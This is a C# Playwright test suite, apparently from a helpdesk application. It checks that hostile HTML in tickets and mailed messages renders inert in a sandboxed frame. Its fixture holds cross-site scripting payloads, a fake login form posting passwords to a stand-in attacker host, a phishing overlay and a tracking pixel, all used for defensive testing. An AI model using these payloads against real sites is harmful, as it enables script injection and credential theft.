using Rapport.BrowserTests.Infrastructure;
using Rapport.Features.Agents;

namespace Rapport.BrowserTests.Features.Tickets;

/// <summary>A message written to attack the agent's browser renders inert: no script, no handler, no javascript: link,
/// no page-covering CSS, and no remote image (tracking pixel) until the agent asks for images.</summary>
public abstract class HostileMessageTests(BrowserApp app, Chromium chromium) : PageTests(app, chromium)
{
    [Fact]
    public Task TicketPage_WithHostileHtml_RendersInertAndHoldsBackRemoteImages() =>
        RendersInertAsync(async html => (await Factory.OpenTicketAsync("Hostile " + Guid.NewGuid().ToString("N")[..8], $"evil+{Guid.NewGuid():N}@example.org", html: html)).Id);

    /// <summary>Mail's HTML is not stored but sanitized from the raw message when shown (0044): the same attack by mail.</summary>
    [Fact]
    public Task TicketPage_WithHostileHtmlByMail_RendersInertAndHoldsBackRemoteImages() =>
        RendersInertAsync(html => Factory.MailTicketAsync("Hostile mail " + Guid.NewGuid().ToString("N")[..8], $"evil+{Guid.NewGuid():N}@example.org",
            "Hello, please see below.", html));

    private async Task RendersInertAsync(Func<string, Task<long>> openTicket)
    {
        var pixel = $"{App.BaseAddress.ToString().TrimEnd('/')}/health/live?pixel={Guid.NewGuid():N}";
        var html = $$"""
            <p>Hello, please see below.</p>
            <script>window.top.pwned = 'script';</script>
            <img src="x" onerror="window.top.pwned = 'onerror'">
            <a id="js-link" href="javascript:window.top.pwned='link'">Click me</a>
            <svg onload="window.top.pwned='svg'"><circle r="5" /></svg>
            <iframe src="javascript:window.top.pwned='frame'"></iframe>
            <form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
            <div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999">Your session expired</div>
            <style>body { display: none } .composer { display: none !important }</style>
            <img src="{{pixel}}" width="1" height="1" alt="">
            """;
        var ticketId = await openTicket(html);
        var agent = await Factory.CreateAgentAsync(AgentRoles.Agent);
        var page = await NewPageAsync();
        var pixelRequests = 0;
        var pixelLoaded = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        // Counted when the request completes: the frame's policy stops a held-back image before it leaves the browser.
        page.RequestFinished += (_, request) =>
        {
            if (request.Url.Contains("pixel=", StringComparison.Ordinal))
            {
                Interlocked.Increment(ref pixelRequests);
                pixelLoaded.TrySetResult();
            }
        };
        var dialogs = 0;
        page.Dialog += (_, dialog) => { Interlocked.Increment(ref dialogs); _ = dialog.DismissAsync(); };
        await BrowserApp.SignInAsync(page, agent);

        await page.GotoAsync($"/tickets/{ticketId}");
        await BrowserApp.WaitForLiveAsync(page);
        // The customer's text shows first; the mail as sent is one click away (0067).
        await page.GetByText("Whole message").First.ClickAsync();
        var frame = page.Locator("iframe.message-html").First;
        await Assertions.Expect(frame).ToBeVisibleAsync();
        (await frame.GetAttributeAsync("sandbox"))!.ShouldNotContain("allow-scripts");
        var content = frame.ContentFrame;
        await Assertions.Expect(content.GetByText("Hello, please see below.")).ToBeVisibleAsync();
        await content.Locator("#js-link, a:has-text('Click me')").First.ClickAsync(new() { Force = true, Timeout = 2_000 }).ContinueWith(_ => { });
        // Rather than a pause: once the frame has loaded, each of its images has loaded or been refused and any handler
        // that could run has run; a round trip through the page's task queue takes in what the click queued; and
        // Playwright hands events over in order, so a pixel request would have been counted by the time it answers.
        await (await (await frame.ElementHandleAsync()).ContentFrameAsync())!.WaitForLoadStateAsync(LoadState.Load);
        await page.EvaluateAsync("() => new Promise(resolve => setTimeout(resolve, 0))");

        (await page.EvaluateAsync<string?>("() => window.pwned ?? null")).ShouldBeNull();
        dialogs.ShouldBe(0);
        pixelRequests.ShouldBe(0);
        // The overlay and the style tricks stay inside the frame: the workspace's own composer is still there and usable.
        await Assertions.Expect(page.Locator("#draft")).ToBeVisibleAsync();
        await page.Locator("#draft").FillAsync("Still usable");

        // Remote images load only when the agent asks.
        await page.GetByRole(AriaRole.Button, new() { Name = "Show images" }).ClickAsync();
        await pixelLoaded.Task.WaitAsync(TimeSpan.FromSeconds(15), Ct);
        (await page.EvaluateAsync<string?>("() => window.pwned ?? null")).ShouldBeNull();
    }
}

public sealed class HostileMessageTests_Sqlite(SqliteBrowserApp app, Chromium chromium) : HostileMessageTests(app, chromium), IClassFixture<SqliteBrowserApp>;

public sealed class HostileMessageTests_Postgres(PostgresBrowserApp app, Chromium chromium) : HostileMessageTests(app, chromium), IClassFixture<PostgresBrowserApp>;
